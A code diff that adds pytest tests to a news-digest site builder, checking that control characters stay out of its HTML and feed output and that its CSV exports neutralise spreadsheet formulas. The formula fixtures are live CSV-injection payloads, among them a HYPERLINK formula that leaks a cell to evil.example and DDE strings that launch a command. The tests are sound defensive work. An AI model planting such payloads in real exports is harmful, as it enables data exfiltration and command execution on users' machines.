@@ -18,6 +18,7 @@ autolinks and reference links in a dozen spellings). It must validate and build,
 
 from __future__ import annotations
 
+import contextlib
 import csv
 import dataclasses
 import functools
@@ -39,6 +40,7 @@ from builder.build import run_build
 from builder.check import run_check
 from builder.model import Initiative, Metric, Region, Source
 from builder.render.markdown import render_body
+from tests.editing_helpers import GOOD, make_content, replace
 from tests.test_build_fixture import INITIATIVES, LEVELS_YAML, THEMES, write_content
 
 # ----------------------------------------------------------------------------------------------- payloads
@@ -609,3 +611,110 @@ def test_search_works_under_the_csp_and_shows_payloads_as_text(
     assert page.evaluate(f"window.{FLAG}") is None
     assert not dialogs
     context.close()
+
+
+# ------------------------------------------------------------- control characters, spreadsheet formulas
+
+CONTROL = "\x01\x08\x0b\x0c\x1b\x7f\x85\ufffe\uffff"
+
+
+def _build_one(root: Path, **replacements: str) -> tuple[int, str, Path]:
+    """Build a content folder of one GOOD file with `old=new` replacements: (exit code, stderr, site)."""
+    text = GOOD
+    for old, new in replacements.items():
+        text = replace(text, old, new)
+    content = make_content(root, {"huimin-district.md": text})
+    err = io.StringIO()
+    with contextlib.redirect_stderr(err):
+        code = run_build(content, root / "site", quiet=True)
+    return code, err.getvalue(), root / "site"
+
+
+def test_control_characters_leave_the_feed_well_formed(tmp_path: Path) -> None:
+    """YAML escapes ("\\x01", "\\e", "\\uFFFE") put characters into titles that XML 1.0 forbids."""
+    escaped = "".join(f"\\u{ord(c):04X}" for c in CONTROL)
+    code, err, site = _build_one(
+        tmp_path,
+        **{
+            "title: 回民区：以组织力引领城市基层治理现代化": f'title: "回民区{escaped}标题"',
+            "summary: 回民区将党组织建在网格上。": f'summary: "摘要{escaped}"',
+            "byline: 本报讯（记者 祁晓燕 通讯员 云静波）": f'byline: "记者{escaped}"',
+        },
+    )
+    assert code == 0, err
+    feed = ET.parse(site / "feed.xml").getroot()
+    atom = "{http://www.w3.org/2005/Atom}"
+    entry = feed.find(f"{atom}entry")
+    assert entry is not None
+    kept = "\x7f\x85"  # allowed in XML 1.0 (only discouraged)
+    assert entry.findtext(f"{atom}title") == f"回民区{kept}标题"
+    assert entry.findtext(f"{atom}author/{atom}name") == f"记者{kept}"
+    assert (entry.findtext(f"{atom}summary") or "").endswith(f"摘要{kept}")
+    ET.parse(site / "sitemap.xml")
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="builder/validate_schema.py `_text` / `_text_items` accept control characters that a double-quoted "
+    'YAML escape writes (title: "a\\x01b", "\\e", "\\uFFFE"), and builder/validate.py '
+    "`_check_body` only checks that a body is not empty (a raw U+0001 in the body passes): "
+    "the YAML reader refuses the same characters typed raw in front matter ('the character U+0001 is not "
+    "allowed in YAML'), but escaped they pass `digest check` and `digest build` writes them into every page "
+    "(a parse error for HTML, 'Forbidden code point' for the Nu validator, invisible to the editor); "
+    "fix: an error on the key's line for any C0/C1 control other than tab/newline and for noncharacters",
+)
+@pytest.mark.parametrize("where", ["title", "body"])
+def test_control_characters_are_refused_or_kept_out_of_the_pages(tmp_path: Path, where: str) -> None:
+    escaped = "".join(f"\\u{ord(c):04X}" for c in CONTROL)
+    if where == "title":
+        change = {"title: 回民区：以组织力引领城市基层治理现代化": f'title: "回民区{escaped}标题"'}
+    else:
+        change = {"回民区在推行网格化管理的过程中……": f"回民区{CONTROL}在推行网格化管理的过程中……"}
+    code, err, site = _build_one(tmp_path, **change)
+    if code == 1:
+        assert re.search(r"huimin-district\.md:\d+: error: .*U\+0001", err), err
+        return
+    bad = re.compile("[\x00-\x08\x0b\x0e-\x1f\x7f-\x9f\ufdd0-\ufdef\ufffe\uffff]")
+    for path in sorted(site.rglob("*.html")):
+        assert not bad.search(path.read_text(encoding="utf-8")), path
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?"&A1,"点此查看")',
+    "summary": "+cmd|' /C calc'!A0",
+    "locality": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "byline": "-2+3+cmd|' /C calc'!A0",
+    "label": "\t=1+1",
+    "quote": "=1+1 网格党支部",
+}
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
+    code, err, site = _build_one(
+        tmp_path,
+        **{
+            "title: 回民区：以组织力引领城市基层治理现代化": f"title: '{FORMULAS['title']}'",
+            "summary: 回民区将党组织建在网格上。": f'summary: "{FORMULAS["summary"]}"',
+            "locality: 海西路街道赛马场北路社区": f'locality: "{FORMULAS["locality"]}"',
+            "byline: 本报讯（记者 祁晓燕 通讯员 云静波）": f'byline: "{FORMULAS["byline"]}"',
+            "label: 网格党支部": 'label: "\\t=1+1"',
+            'quote: "网格党支部 226个"': f'quote: "{FORMULAS["quote"]}"',
+            "keywords: [网格, 党建联建]": 'keywords: ["=1+1", 网格]',
+        },
+    )
+    assert code == 0, err
+    for name in ("digest.csv", "digest-metrics.csv"):
+        rows = list(csv.reader(io.StringIO((site / name).read_text(encoding="utf-8"))))
+        for row in rows[1:]:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
+    row = next(csv.DictReader(io.StringIO((site / "digest.csv").read_text(encoding="utf-8"))))
+    assert row["title"] == "'" + FORMULAS["title"]
+    assert row["summary"] == "'" + FORMULAS["summary"] and row["byline"] == "'" + FORMULAS["byline"]
+    assert row["keywords"] == "'=1+1;网格"
+    metric = next(csv.DictReader(io.StringIO((site / "digest-metrics.csv").read_text(encoding="utf-8"))))
+    assert metric["label"] == "'\t=1+1" and metric["quote"] == "'" + FORMULAS["quote"]
+    assert metric["value"] == "226"
+    record = json.loads((site / "digest.json").read_text(encoding="utf-8"))["initiatives"][0]
+    assert record["title"] == FORMULAS["title"] and record["locality"] == FORMULAS["locality"]
+    assert record["metrics"][0]["label"] == "\t=1+1"
